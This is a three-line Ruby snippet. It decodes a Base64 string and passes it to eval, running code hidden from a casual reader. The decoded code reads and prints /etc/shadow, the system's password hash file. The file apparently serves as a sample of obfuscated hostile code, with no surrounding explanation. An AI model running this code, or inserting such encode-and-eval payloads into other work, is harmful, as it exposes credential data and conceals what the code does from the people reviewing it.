require 'base64'
payload = 'cHV0cyBGaWxlLnJlYWQoJy9ldGMvc2hhZG93Jyk='
eval(Base64.decode64(payload))
